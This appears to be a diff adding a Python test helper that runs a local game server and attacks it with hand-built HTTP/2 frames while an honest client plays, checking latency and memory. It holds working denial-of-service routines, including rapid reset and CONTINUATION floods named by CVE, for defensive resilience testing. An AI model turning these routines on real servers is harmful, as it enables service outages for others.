@@ -1,0 +1,427 @@
+"""HTTP/2 abuse against a real server process with the shipped limits, from another address
+(127.0.0.2) than an honest client (127.0.0.1), shared by the abuse tests (a few connections in
+``make test``, 250 and 500 in the load tier) and ``tests.bench.abuse_bench``.
+
+The frames are written by hand (``tests.halfopen``), as no well-behaved client can send them.
+The honest client plays a match over Connect on the attacked port and reads it on the gRPC
+port, every call within ``HONEST_DEADLINE_S`` (a call that takes longer fails).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import os
+import struct
+import subprocess
+import threading
+import urllib.request
+import uuid
+from collections.abc import Awaitable, Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Final
+
+import grpc
+from pyqwest import HTTPVersion, SyncClient, SyncHTTPTransport
+
+from basra.v1 import basra_service_pb2 as pb
+from basra.v1 import basra_service_pb2_grpc as pb_grpc
+from basra.v1 import game_pb2
+from basra.v1.basra_service_connect import BasraServiceClientSync
+from tests.halfopen import (
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    PING,
+    PREFACE,
+    RST_STREAM,
+    SETTINGS,
+    SETTINGS_INITIAL_WINDOW_SIZE,
+    frame,
+    request_headers,
+    rss_bytes,
+)
+from tests.support import embedded_serve, free_port, wait_until
+
+POD_LIMIT: Final = 512 * 2**20
+"""deploy/kustomize/base/deployment.yaml's memory limit."""
+PEAK_LIMIT: Final = int(0.9 * POD_LIMIT)
+"""The most a server under attack may hold: 90 % of the pod's limit."""
+ATTACKER: Final = "127.0.0.2"
+HONEST_DEADLINE_S: Final = 1.0
+"""Each honest call's deadline during an attack (a Play answered later has failed)."""
+CONTINUATION: Final = 0x9
+Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, str], Awaitable[None]]
+
+
+@dataclass(frozen=True)
+class Served:
+    """A server process with the shipped limits (the embedded store) and its ports."""
+
+    process: subprocess.Popen[bytes]
+    port: int
+    http_port: int
+    metrics_port: int
+
+    @property
+    def rss(self) -> int:
+        return rss_bytes(self.process.pid)
+
+    def metric(self, name: str) -> float:
+        """A sample's value on the metrics port (``name`` with its labels, as exported)."""
+        url = f"http://127.0.0.1:{self.metrics_port}/metrics"
+        with urllib.request.urlopen(url, timeout=10) as response:
+            for line in response.read().decode().splitlines():
+                if line.startswith(name + " "):
+                    return float(line.rpartition(" ")[2])
+        raise AssertionError(f"no sample {name}")
+
+    @property
+    def calls_in_flight(self) -> float:
+        """Calls the server holds on either port (``basra_calls_in_flight``)."""
+        return self.metric('basra_calls_in_flight{port="http"}') + self.metric(
+            'basra_calls_in_flight{port="grpc"}'
+        )
+
+
+@contextlib.contextmanager
+def serving(tmp_path: Path) -> Iterator[Served]:
+    """A server process with the shipped limits, until the block ends."""
+    port, http_port, metrics_port = free_port(), free_port(), free_port()
+    env = {k: v for k, v in os.environ.items() if not k.startswith("BASRA_")}
+    log = (tmp_path / "serve.log").open("wb")
+    process = subprocess.Popen(
+        embedded_serve(
+            port,
+            *("--http-listen", f"127.0.0.1:{http_port}"),
+            *("--metrics-port", str(metrics_port), "--log-level", "ERROR"),
+        ),
+        stdout=log,
+        stderr=log,
+        env=env,
+    )
+    try:
+        with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
+            grpc.channel_ready_future(channel).result(timeout=60)
+        yield Served(process, port, http_port, metrics_port)
+    finally:
+        process.kill()
+        process.wait()
+        log.close()
+
+
+# -- The attacks: each writes its frames on one connection, then holds it, reading nothing ----
+
+
+async def _preface(writer: asyncio.StreamWriter, window: int | None = None) -> None:
+    settings = b"" if window is None else struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
+    writer.write(PREFACE + frame(SETTINGS, 0, 0, settings) + settings)
+    await writer.drain()
+
+
+async def rapid_reset(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
+    """HEADERS then RST_STREAM, stream after stream (CVE-2023-44487)."""
+    await _preface(w)
+    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
+    for n in range(2000):
+        stream = 2 * n + 1
+        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
+        w.write(frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08") + b"\x00\x00\x00\x08")
+        if n % 50 == 0:
+            await w.drain()
+
+
+async def continuation_flood(
+    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
+) -> None:
+    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB (CVE-2024-27316)."""
+    await _preface(w)
+    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
+    w.write(frame(HEADERS, 0, 1, headers) + headers)
+    block = b"\x00\x01a\x7f\x81\x7f" + b"a" * (16384 - 6)  # a literal that never ends
+    for _ in range(62):
+        w.write(frame(CONTINUATION, 0, 1, block) + block)
+        await w.drain()
+
+
+async def header_list_past_the_limit(
+    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
+) -> None:
+    """Requests whose header list is larger than the server's MAX_HEADER_LIST_SIZE."""
+    await _preface(w)
+    base = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
+    value = b"v" * 120
+    big = base + b"".join(
+        b"\x00\x02x" + bytes((n % 10 + 48,)) + b"\x78" + value for n in range(600)
+    )
+    for n in range(8):
+        stream = 2 * n + 1
+        for offset in range(0, len(big), 16384):
+            piece = big[offset : offset + 16384]
+            last = offset + 16384 >= len(big)
+            kind = HEADERS if offset == 0 else CONTINUATION
+            w.write(frame(kind, END_HEADERS if last else 0, stream, piece) + piece)
+        await w.drain()
+
+
+async def settings_and_ping_flood(
+    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
+) -> None:
+    """SETTINGS and PING frames, each asking for an acknowledgement, never reading one."""
+    await _preface(w)
+    for n in range(2000):
+        w.write(frame(SETTINGS, 0, 0) + frame(PING, 0, 0, struct.pack(">Q", n)))
+        w.write(struct.pack(">Q", n))
+        if n % 100 == 0:
+            await w.drain()
+
+
+async def window_never_opens(
+    reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str
+) -> None:
+    """Whole requests from a client whose flow-control window never opens: no answer can be
+    written to it."""
+    await _preface(w, window=0)
+    headers = request_headers(host, "/basra.v1.BasraService/ListRules", "application/proto")
+    for n in range(16):
+        stream = 2 * n + 1
+        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
+        w.write(frame(DATA, END_STREAM, stream))
+    await w.drain()
+
+
+async def half_open(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
+    """Requests whose headers and one byte of body arrive, then nothing."""
+    await _preface(w)
+    headers = request_headers(host, "/basra.v1.BasraService/GetMatch", "application/proto")
+    for n in range(16):
+        stream = 2 * n + 1
+        w.write(frame(HEADERS, END_HEADERS, stream, headers) + headers)
+        w.write(frame(DATA, 0, stream, b"\x00") + b"\x00")
+    await w.drain()
+
+
+async def idle(reader: asyncio.StreamReader, w: asyncio.StreamWriter, host: str) -> None:
+    """A connection that sends its preface and nothing more."""
+    await _preface(w)
+
+
+ATTACKS: Final[dict[str, Attack]] = {
+    "rapid_reset": rapid_reset,
+    "continuation_flood": continuation_flood,
+    "header_list_past_the_limit": header_list_past_the_limit,
+    "settings_and_ping_flood": settings_and_ping_flood,
+    "window_never_opens": window_never_opens,
+    "half_open": half_open,
+    "idle": idle,
+}
+
+
+class Attackers:
+    """``connections`` connections from 127.0.0.2, each running one attack, in a thread of
+    their own until ``stop``."""
+
+    def __init__(self, port: int, connections: int, attack: Attack) -> None:
+        self.connections = connections
+        self.opened = 0
+        """Connections the server accepted (or refused: they count once tried)."""
+        self.sent = 0
+        """Connections whose attack has written all it will (or whose connection was closed)."""
+        self._port = port
+        self._attack = attack
+        self._ready = threading.Event()
+        self._loop: asyncio.AbstractEventLoop | None = None
+        self._stop: asyncio.Event | None = None
+        self._thread = threading.Thread(target=asyncio.run, args=(self._run(),), daemon=True)
+
+    async def _run(self) -> None:
+        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
+        self._ready.set()
+        await asyncio.gather(*(self._one() for _ in range(self.connections)))
+
+    async def _one(self) -> None:
+        assert self._stop is not None
+        try:
+            reader, writer = await asyncio.open_connection(
+                "127.0.0.1", self._port, local_addr=(ATTACKER, 0)
+            )
+        except OSError:
+            self.opened += 1
+            self.sent += 1
+            return
+        self.opened += 1
+        try:
+            with contextlib.suppress(ConnectionError):
+                await self._attack(reader, writer, f"127.0.0.1:{self._port}")
+            self.sent += 1
+            await self._stop.wait()  # hold the connection, reading nothing
+        finally:
+            writer.close()
+            with contextlib.suppress(ConnectionError):
+                await writer.wait_closed()
+
+    @property
+    def sending(self) -> bool:
+        return self.sent < self.connections
+
+    def start(self) -> None:
+        self._thread.start()
+        assert self._ready.wait(10)
+
+    def stop(self) -> None:
+        """Close every connection and wait for the thread."""
+        if self._loop is not None and self._stop is not None and self._thread.is_alive():
+            self._loop.call_soon_threadsafe(self._stop.set)
+        self._thread.join(60)
+        assert not self._thread.is_alive(), "the attackers did not let go"
+
+
+@contextlib.contextmanager
+def attacking(port: int, connections: int, attack: Attack) -> Iterator[Attackers]:
+    """``attack`` on ``connections`` connections until the block ends, once all are open."""
+    attackers = Attackers(port, connections, attack)
+    attackers.start()
+    try:
+        wait_until(lambda: attackers.opened == connections, 60, "the attacking connections opened")
+        yield attackers
+    finally:
+        attackers.stop()
+
+
+# -- The honest client -------------------------------------------------------------------------
+
+
+class Honest:
+    """A person playing a match over Connect (HTTP/2) from 127.0.0.1, each call within
+    ``HONEST_DEADLINE_S``: a call that fails or takes longer raises."""
+
+    def __init__(self, served: Served) -> None:
+        self._transport = SyncHTTPTransport(http_version=HTTPVersion.HTTP2)
+        self._http = SyncClient(self._transport)
+        self._health = f"http://127.0.0.1:{served.http_port}/healthz"
+        self._connect = BasraServiceClientSync(
+            f"http://127.0.0.1:{served.http_port}",
+            http_client=self._http,
+            timeout_ms=int(HONEST_DEADLINE_S * 1000),
+        )
+        self._channel = grpc.insecure_channel(f"127.0.0.1:{served.port}")
+        self._grpc = pb_grpc.BasraServiceStub(self._channel)
+        dealt = self._connect.deal(pb.DealRequest(request_id=str(uuid.uuid4())))
+        self._match = dealt.view.match_id
+        self._tokens = {token.seat: token.token for token in dealt.seat_tokens}
+        self.plays = 0
+
+    def _auth(self, seat: int) -> dict[str, str]:
+        return {"authorization": f"Bearer {self._tokens[seat]}"}
+
+    def ready(self) -> bool:
+        """Whether GET /healthz, over HTTP/2, answers 200 (within the deadline)."""
+        response = self._http.get(self._health, timeout=HONEST_DEADLINE_S)
+        return bool(response.status == 200)
+
+    def play(self) -> None:
+        """One play over Connect (the match read, the seat's plans, the play) and the match
+        read on the gRPC port; a hand that is over is dealt again."""
+        view = self._connect.get_match(
+            pb.GetMatchRequest(match_id=self._match), headers=self._auth(0)
+        ).view
+        if view.status == game_pb2.MATCH_STATUS_HAND_OVER:
+            self._connect.deal(
+                pb.DealRequest(match_id=self._match, request_id=str(uuid.uuid4())),
+                headers=self._auth(0),
+            )
+            return
+        assert view.status == game_pb2.MATCH_STATUS_PLAYING, view.status
+        seat = view.turn
+        plans = self._connect.list_plans(
+            pb.ListPlansRequest(match_id=self._match), headers=self._auth(seat)
+        ).cards
+        self._connect.play(
+            pb.PlayRequest(
+                match_id=self._match,
+                card=plans[0].card,
+                plan_id=1 if plans[0].plans else 0,
+                request_id=str(uuid.uuid4()),
+            ),
+            headers=self._auth(seat),
+        )
+        self._grpc.GetMatch(
+            pb.GetMatchRequest(match_id=self._match),
+            metadata=tuple(self._auth(seat).items()),
+            timeout=HONEST_DEADLINE_S,
+        )
+        self.plays += 1
+
+    def close(self) -> None:
+        self._channel.close()
+        self._transport.close()
+
+
+class PeakRss:
+    """The highest resident set size of a process, sampled from /proc in a thread until
+    ``stop``."""
+
+    def __init__(self, pid: int) -> None:
+        self.peak = rss_bytes(pid)
+        self._pid = pid
+        self._done = threading.Event()
+        self._thread = threading.Thread(target=self._sample, daemon=True)
+        self._thread.start()
+
+    def _sample(self) -> None:
+        while not self._done.wait(0.02):
+            with contextlib.suppress(OSError, RuntimeError):
+                self.peak = max(self.peak, rss_bytes(self._pid))
+
+    def stop(self) -> int:
+        self._done.set()
+        self._thread.join(5)
+        return self.peak
+
+
+ROUNDS: Final = 5
+"""Plays the honest client makes during an attack, at least (more while attackers still send)."""
+MOST_ROUNDS: Final = 100
+KEPT: Final = 64 * 2**20
+"""What a server may keep, above what it held before, once the attackers have left: memory its
+allocators keep for reuse."""
+
+
+def withstand(served: Served, name: str, connections: int) -> int:
+    """Attack ``served`` with ``name`` on ``connections`` connections while an honest client
+    plays; assert what every abuse class must leave true, and return the peak RSS:
+
+    - every honest call (Connect on the attacked port, gRPC on the other) is answered, none
+      refused, each within ``HONEST_DEADLINE_S``, and /healthz (over HTTP/2) says ready;
+    - the server's peak RSS stays under 90 % of the pod's memory limit;
+    - once the attackers leave, no call of theirs keeps running (``basra_calls_in_flight``
+      back to 0) and the RSS comes back down (within ``KEPT`` of what it was before).
+    """
+    honest = Honest(served)
+    try:
+        honest.play()
+        base = served.rss
+        sampler = PeakRss(served.process.pid)
+        try:
+            with attacking(served.http_port, connections, ATTACKS[name]) as attackers:
+                rounds = 0
+                while rounds < ROUNDS or (attackers.sending and rounds < MOST_ROUNDS):
+                    honest.play()
+                    assert honest.ready(), "/healthz said not ready during the attack"
+                    rounds += 1
+        finally:
+            peak = sampler.stop()
+        assert peak < PEAK_LIMIT, f"peak RSS {peak >> 20} MiB, past 90 % of the pod's limit"
+        wait_until(lambda: served.calls_in_flight == 0, 30, "the attack's calls to end")
+        wait_until(
+            lambda: served.rss <= base + KEPT,
+            30,
+            f"the RSS to come back within {KEPT >> 20} MiB of {base >> 20} MiB",
+        )
+        honest.play()
+        assert honest.ready()
+        return peak
+    finally:
+        honest.close()
